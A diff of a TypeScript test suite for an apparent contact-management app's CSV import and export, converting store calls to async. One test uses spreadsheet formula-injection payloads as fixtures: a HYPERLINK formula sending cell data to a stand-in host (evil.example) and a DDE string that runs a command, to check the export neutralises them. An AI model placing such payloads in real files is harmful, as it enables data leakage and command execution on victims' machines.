@@ -1,4 +1,5 @@
 import { activateFlow, createTestRuntime, flows } from '@scoreflow/runtime/testing';
+import { sql } from '@scoreflow/store';
 import { parse } from 'csv-parse/sync';
 import { pino } from 'pino';
 import request from 'supertest';
@@ -11,8 +12,10 @@ const { app, runtime: t } = useTestApp({ runtime: true });
 const importCsv = (csv: string, query = '') =>
   request(app()).post(`/api/contacts/import${query}`).set('content-type', 'text/csv').send(csv);
 
-const countContacts = () =>
-  (t().store.db.prepare('SELECT count(*) AS n FROM contacts').get() as { n: number }).n;
+const countContacts = async () => {
+  const { rows } = await sql<{ n: number }>`SELECT count(*) AS n FROM contacts`.execute(t().store.db);
+  return Number(rows[0]?.n);
+};
 
 describe('CSV import and export', () => {
   it('imports 20,000 rows in one streamed request, keeping valid rows and naming bad lines', async () => {
@@ -34,18 +37,18 @@ describe('CSV import and export', () => {
       { line: 5002, message: 'attributes is not valid JSON' },
       { line: 15002, message: 'score:SCORE must be a number, not "lots"' },
     ]);
-    expect(countContacts()).toBe(19_997);
-    const c = t().store.contacts.findByEmail('p42@example.com');
+    expect(await countContacts()).toBe(19_997);
+    const c = await t().store.contacts.findByEmail('p42@example.com');
     expect(c).toMatchObject({ externalId: 'crm-42', attributes: { city: 'Oslo', n: 42, plan: 'pro' } });
-    expect(t().store.tags.list(c?.id ?? '')).toEqual(['lead', 'webinar']);
-    expect(t().store.lists.list(c?.id ?? '')).toEqual(['Newsletter']);
-    expect(t().store.scores.get(c?.id ?? '', 'SCORE')).toBe(42);
-    expect(t().store.ledger.listForContact(c?.id ?? '', {})[0]).toMatchObject({
+    expect(await t().store.tags.list(c?.id ?? '')).toEqual(['lead', 'webinar']);
+    expect(await t().store.lists.list(c?.id ?? '')).toEqual(['Newsletter']);
+    expect(await t().store.scores.get(c?.id ?? '', 'SCORE')).toBe(42);
+    expect((await t().store.ledger.listForContact(c?.id ?? '', {}))[0]).toMatchObject({
       delta: 42,
       actor: 'csv-import',
     });
     // Imported changes start no flows unless asked to.
-    expect(t().store.events.listPending()).toEqual([]);
+    expect(await t().store.events.listPending()).toEqual([]);
 
     const exported = await request(app()).get('/api/contacts/export.csv').expect(200);
     expect(exported.headers['content-type']).toMatch(/^text\/csv/);
@@ -64,11 +67,11 @@ describe('CSV import and export', () => {
     // The export imports back unchanged: nothing is created, no score moves.
     const again = await importCsv(exported.text).expect(200);
     expect(again.body).toMatchObject({ imported: 19_997, created: 0, failed: 0 });
-    expect(t().store.ledger.listForContact(c?.id ?? '', {})).toHaveLength(1);
+    expect(await t().store.ledger.listForContact(c?.id ?? '', {})).toHaveLength(1);
   }, 120_000);
 
   it('with ?startFlows=true, imported rows become contact.imported events that trigger flows', async () => {
-    activateFlow(
+    await activateFlow(
       t().store,
       flows.chain(
         'Welcome imports',
@@ -76,7 +79,7 @@ describe('CSV import and export', () => {
         ['action.addTag', { tag: 'welcomed' }],
       ),
     );
-    activateFlow(
+    await activateFlow(
       t().store,
       flows.chain(
         'Plan',
@@ -87,7 +90,7 @@ describe('CSV import and export', () => {
     const csv = 'email,plan\nann@example.com,pro\nbob@example.com,\n';
     await importCsv(csv, '?startFlows=false').expect(200);
     const ann = () => t().store.contacts.findByEmail('ann@example.com');
-    expect(t().store.tags.list(ann()?.id ?? '')).toEqual([]);
+    expect(await t().store.tags.list((await ann())?.id ?? '')).toEqual([]);
 
     const res = await importCsv(
       'email,plan\nann@example.com,team\nbob@example.com,\n',
@@ -95,32 +98,34 @@ describe('CSV import and export', () => {
     ).expect(200);
     expect(res.body).toMatchObject({ imported: 2, created: 0, failed: 0, startFlows: true });
     await t().until(
-      () => t().store.events.listPending().length === 0 && t().store.tags.list(ann()?.id ?? '').length === 2,
+      async () =>
+        (await t().store.events.listPending()).length === 0 &&
+        (await t().store.tags.list((await ann())?.id ?? '')).length === 2,
       'flows',
     );
-    expect(t().store.tags.list(ann()?.id ?? '')).toEqual(['has-plan', 'welcomed']);
-    expect(ann()?.attributes).toEqual({ plan: 'team' });
-    const bob = t().store.contacts.findByEmail('bob@example.com');
-    expect(t().store.tags.list(bob?.id ?? '')).toEqual(['welcomed']);
+    expect(await t().store.tags.list((await ann())?.id ?? '')).toEqual(['has-plan', 'welcomed']);
+    expect((await ann())?.attributes).toEqual({ plan: 'team' });
+    const bob = await t().store.contacts.findByEmail('bob@example.com');
+    expect(await t().store.tags.list(bob?.id ?? '')).toEqual(['welcomed']);
   });
 
   it('neutralises formula cells in the export, keeps negative scores as numbers, and imports back exactly', async () => {
     const hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
     const dde = "+cmd|' /C calc'!A0";
-    const { contact } = t().store.contacts.upsertByIdentity({
+    const { contact } = await t().store.contacts.upsertByIdentity({
       email: '-ann@example.com',
       externalId: hyperlink,
     });
-    t().store.tags.add(contact.id, dde);
-    t().store.tags.add(contact.id, 'lead');
-    t().store.lists.add(contact.id, '@SUM(1+9)');
-    t().store.scores.set(contact.id, 'SCORE', -5);
-    const { contact: bob } = t().store.contacts.upsertByIdentity({
+    await t().store.tags.add(contact.id, dde);
+    await t().store.tags.add(contact.id, 'lead');
+    await t().store.lists.add(contact.id, '@SUM(1+9)');
+    await t().store.scores.set(contact.id, 'SCORE', -5);
+    const { contact: bob } = await t().store.contacts.upsertByIdentity({
       email: 'bob@example.com',
       externalId: "'=kept",
     });
-    t().store.tags.add(bob.id, '-1+2');
-    t().store.scores.set(bob.id, 'SCORE', 12);
+    await t().store.tags.add(bob.id, '-1+2');
+    await t().store.scores.set(bob.id, 'SCORE', 12);
 
     const exported = await request(app()).get('/api/contacts/export.csv').expect(200);
     const cells = parse(exported.text) as string[][];
@@ -139,7 +144,7 @@ describe('CSV import and export', () => {
     // Imported into an empty installation, the file gives back the same contacts and the same file.
     const other = await createTestRuntime();
     try {
-      const otherApp = asAdmin(
+      const otherApp = await asAdmin(
         createApp({ store: other.store, logger: pino({ level: 'silent' }) }),
         other.store,
       );
@@ -149,12 +154,12 @@ describe('CSV import and export', () => {
         .send(exported.text)
         .expect(200);
       expect(res.body).toMatchObject({ imported: 2, created: 2, failed: 0 });
-      const ann = other.store.contacts.findByEmail('-ann@example.com');
+      const ann = await other.store.contacts.findByEmail('-ann@example.com');
       expect(ann?.externalId).toBe(hyperlink);
-      expect(other.store.tags.list(ann?.id ?? '')).toEqual([dde, 'lead'].sort());
-      expect(other.store.lists.list(ann?.id ?? '')).toEqual(['@SUM(1+9)']);
-      expect(other.store.scores.get(ann?.id ?? '', 'SCORE')).toBe(-5);
-      expect(other.store.contacts.findByEmail('bob@example.com')?.externalId).toBe("'=kept");
+      expect(await other.store.tags.list(ann?.id ?? '')).toEqual([dde, 'lead'].sort());
+      expect(await other.store.lists.list(ann?.id ?? '')).toEqual(['@SUM(1+9)']);
+      expect(await other.store.scores.get(ann?.id ?? '', 'SCORE')).toBe(-5);
+      expect((await other.store.contacts.findByEmail('bob@example.com'))?.externalId).toBe("'=kept");
       const again = await request(otherApp).get('/api/contacts/export.csv').expect(200);
       expect(again.text).toBe(exported.text);
     } finally {
@@ -168,7 +173,7 @@ describe('CSV import and export', () => {
       'typed@example.com,4,4,true,FALSE,pro,0.5,-12,01234,123,+4712345678,12345678901234567890,1e3',
     ].join('\n');
     await importCsv(`${csv}\n`).expect(200);
-    const c = t().store.contacts.findByEmail('typed@example.com');
+    const c = await t().store.contacts.findByEmail('typed@example.com');
     expect(c?.externalId).toBe('4');
     expect(c?.attributes).toEqual({
       social_profiles: 4,
@@ -192,6 +197,6 @@ describe('CSV import and export', () => {
     await request(app()).post('/api/contacts/import').send({ email: 'a@b.example' }).expect(415);
     const res = await importCsv('email\nok@example.com\n"unterminated@example.com\n').expect(400);
     expect(res.body.detail).toMatch(/the 1 rows before it were imported/);
-    expect(countContacts()).toBe(1);
+    expect(await countContacts()).toBe(1);
   });
 });
